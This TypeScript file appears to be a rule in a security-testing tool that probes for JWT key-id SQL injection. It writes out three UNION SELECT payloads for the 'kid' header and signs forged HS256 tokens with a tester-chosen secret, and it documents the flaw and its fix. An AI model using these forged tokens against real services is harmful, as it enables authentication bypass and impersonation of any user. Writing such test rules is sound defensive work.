import { defineTokenForgery, signJwt } from '../../rule/index.ts'

/** A key id that, put into a query, returns a secret of our own choice. */
export default defineTokenForgery({
  id: 'jwt-key-id-injection',
  title: 'The key id of a token is put into a database query',
  severity: 'critical',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  cwe: [89, 347],
  why: 'The key is looked up with a query into which the key id is pasted. An attacker makes the query return a secret of their own and signs tokens for any user.',
  fix: 'Bind the key id as a parameter, or look it up in a fixed list of keys.',
  controls: ['authentication', 'input-validation'],
  forgeries: (context, jwt) => {
    const secret = `hf${context.unique()}`
    return [
      `hf' UNION SELECT '${secret}' -- -`,
      `hf" UNION SELECT "${secret}" -- -`,
      `0 UNION SELECT '${secret}' -- -`,
    ].map((kid) => ({
      label: 'whose key id makes the query return a secret of the tester, signed with it,',
      token: signJwt({ ...jwt.header, alg: 'HS256', kid }, jwt.claims, secret),
      control: signJwt({ ...jwt.header, alg: 'HS256', kid }, jwt.claims, `${secret}x`),
    }))
  },
})
